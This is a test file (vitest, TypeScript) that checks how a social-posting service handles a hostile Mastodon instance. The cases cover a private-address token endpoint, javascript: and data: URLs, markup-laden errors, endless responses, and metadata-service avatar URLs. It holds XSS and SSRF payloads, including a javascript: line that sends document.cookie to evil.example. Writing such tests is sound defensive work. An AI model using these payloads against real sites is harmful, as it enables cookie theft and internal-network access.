// A hostile Mastodon instance: it passes the SSRF guard itself (NETWORK_ALLOWED_HOSTS=127.0.0.1), then names, in
// its OAuth metadata and its answers, URLs the service must neither call nor hand on: a token endpoint at a
// private address (where the code, the PKCE verifier and the app's secret would go), a `javascript:` authorization
// endpoint (which the dashboard would open), a `javascript:` permalink (which every transport would serve),
// error answers full of markup, and answers without end.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { startTestService, type TestService } from '../support/service.ts';
import { createWorkspace } from '../support/fixtures.ts';
import { apiFor, waitForPost, type Api } from '../support/posts.ts';
import { MastodonStandIn } from '../support/mastodon.ts';
import { OAuthBrowser } from '../support/oauthBrowser.ts';
import { startFlood } from '../support/endless.ts';

/** A service inside the network (127.0.0.2, not allowed): counts every connection and answers with its secrets. */
class InsideService {
  connections = 0;
  readonly #server: Server = createServer((_request, response) => {
    response
      .writeHead(400, { 'content-type': 'application/json' })
      .end(JSON.stringify({ error: 'invalid_grant', error_description: 'INTERNAL-SECRET: db password hunter2' }));
  });
  url = '';

  async start(): Promise<this> {
    this.#server.on('connection', () => this.connections++);
    await new Promise<void>((resolve) => this.#server.listen(0, '127.0.0.2', resolve));
    this.url = `127.0.0.2:${(this.#server.address() as AddressInfo).port}`;
    return this;
  }

  async stop(): Promise<void> {
    this.#server.closeAllConnections();
    await new Promise((resolve) => this.#server.close(resolve));
  }
}

let service: TestService;
let instance: MastodonStandIn;
let inside: InsideService;
let api: Api;

beforeAll(async () => {
  instance = await MastodonStandIn.start();
  inside = await new InsideService().start();
  service = await startTestService({ NETWORK_ALLOWED_HOSTS: '127.0.0.1' });
  api = apiFor(service.url, (await createWorkspace(service.services)).ownerKey);
});

afterEach(() => {
  instance.forged = {};
});

afterAll(async () => {
  await service?.stop();
  await instance?.stop();
  await inside?.stop();
});

/** Starts a connection with the instance as it is now, lets `meanwhile` change it, then authorizes and comes back. */
async function connect(meanwhile: () => void = () => {}): Promise<URL> {
  const started = await api('POST', '/social-accounts/connect', { provider: 'mastodon', instanceUrl: instance.url });
  expect(started.status).toBe(201);
  meanwhile();
  const person = new OAuthBrowser(service.url, service.services.config.publicBaseUrl);
  const atInstance = await fetch(await person.start(started.body.data.authorizationUrl), { redirect: 'manual' });
  const callback = await person.callback(atInstance.headers.get('location')!);
  expect(callback.status).toBe(302);
  return callback.location!;
}

/** Text a person may be shown: one short line, no markup, no control characters. */
function expectShowable(text: string | null) {
  expect(text).toBeTruthy();
  expect(text!.length).toBeLessThanOrEqual(400);
  expect(text).not.toMatch(/[<>\p{Cc}]/u);
}

describe("the endpoints in a hostile instance's OAuth metadata", () => {
  it.each(['http', 'https'])('never sends the code, the verifier or the app secret to a token endpoint at a private address (%s)', async (scheme) => {
    const back = await connect(() => {
      instance.forged = { metadata: { token_endpoint: `${scheme}://${inside.url}/oauth/token` } };
    });
    expect(inside.connections).toBe(0);
    expect(back.searchParams.get('connectionId')).toBeNull();
    expect(back.searchParams.get('error')).toBe('provider_unavailable');
    const description = back.searchParams.get('error_description');
    expectShowable(description);
    expect(description).not.toContain('INTERNAL-SECRET');
  });

  it('refuses a javascript: authorization endpoint instead of handing it to the person', async () => {
    instance.forged = { metadata: { authorization_endpoint: 'javascript:alert(document.domain)//' } };
    const started = await api('POST', '/social-accounts/connect', { provider: 'mastodon', instanceUrl: instance.url });
    expect(started.status).toBe(503);
    expect(JSON.stringify(started.body)).not.toContain('javascript:');
    expect(started.body.data).toBeUndefined();
    expect(started.body.error.code).toBe('PROVIDER_UNAVAILABLE');
  });

  it("passes on the instance's refusal of a code only as a short line of plain text", async () => {
    const back = await connect(() => {
      const markup = `<html><body><script>alert(1)</script>\u0007${'internal detail '.repeat(500)}</body></html>`;
      instance.failNext(1, 400, { error: '<b>bad</b>', error_description: markup }, '/oauth/token');
    });
    expect(back.searchParams.get('error')).toBe('invalid_grant');
    expectShowable(back.searchParams.get('error_description'));
  });
});

describe('an instance answering without end', () => {
  it('fails the connect as the instance’s failure once the answer passes the limit, having read no more of it', async () => {
    // Every request gets JSON bytes without end, written as fast as the connection takes them, until it is closed.
    const flood = await startFlood();
    try {
      const instanceUrl = flood.url;
      const started = await api('POST', '/social-accounts/connect', { provider: 'mastodon', instanceUrl });
      expect(started.status).toBe(503);
      expect(started.body.error.code).toBe('PROVIDER_UNAVAILABLE');
      expect(started.body.error.message).toContain('answered with more than 4,194,304 bytes');
      // The service hung up after the limit (NETWORK_ANSWER_MAX_BYTES, 4 MiB) and what socket buffers took.
      const sent = await flood.sentWhenClosed();
      expect(sent).toBeGreaterThan(4 * 1024 * 1024);
      expect(sent).toBeLessThan(12 * 1024 * 1024 * flood.answered);
    } finally {
      await flood.stop();
    }
  });
});

describe("a hostile instance's avatars", () => {
  it.each([
    'javascript:alert(document.cookie)//',
    'data:text/html,<script>alert(1)</script>',
    'https://10.0.0.7/avatar.png',
    'https://[::1]/avatar.png',
    'http://169.254.169.254/latest/meta-data/',
  ])('stores and serves none that is not a public web URL: %s', async (avatar) => {
    instance.forged = { avatar };
    const connectionId = (await connect()).searchParams.get('connectionId');
    expect(connectionId).toBeTruthy();
    expect((await api('GET', `/social-accounts/${connectionId}`)).body.data).toMatchObject({ id: connectionId, avatarUrl: null });
    const { rows } = await service.services.db.pool.query('SELECT avatar_url FROM social_account WHERE id = $1', [connectionId]);
    expect(rows).toEqual([{ avatar_url: null }]);
  });

  it("keeps the instance's own avatar URL (at a host the operator allows)", async () => {
    const connectionId = (await connect()).searchParams.get('connectionId');
    expect((await api('GET', `/social-accounts/${connectionId}`)).body.data.avatarUrl).toBe(`${instance.url}/avatars/original/missing.png`);
  });
});

describe("a hostile instance's permalinks", () => {
  it('records and serves no javascript: remoteUrl, though the post was published', async () => {
    const connectionId = (await connect()).searchParams.get('connectionId');
    expect(connectionId).toBeTruthy();
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is a script a hostile network hands over, not a template of ours
    instance.forged = { statusUrl: 'javascript:fetch(`//evil.example/${document.cookie}`)' };
    const created = await api('POST', '/posts', { content: { caption: 'Hello', mediaIds: [] }, targets: [{ connectionId, placement: 'feed' }] });
    await api('POST', `/posts/${created.body.data.id}/publish`);
    const post = await waitForPost(api, created.body.data.id, ['published', 'failed']);
    expect(post.targets[0]).toMatchObject({ status: 'published', remoteId: expect.any(String), remoteUrl: null });
    const { rows } = await service.services.db.pool.query('SELECT remote_url FROM post_target WHERE id = $1', [post.targets[0].id]);
    expect(rows).toEqual([{ remote_url: null }]);
  });
});
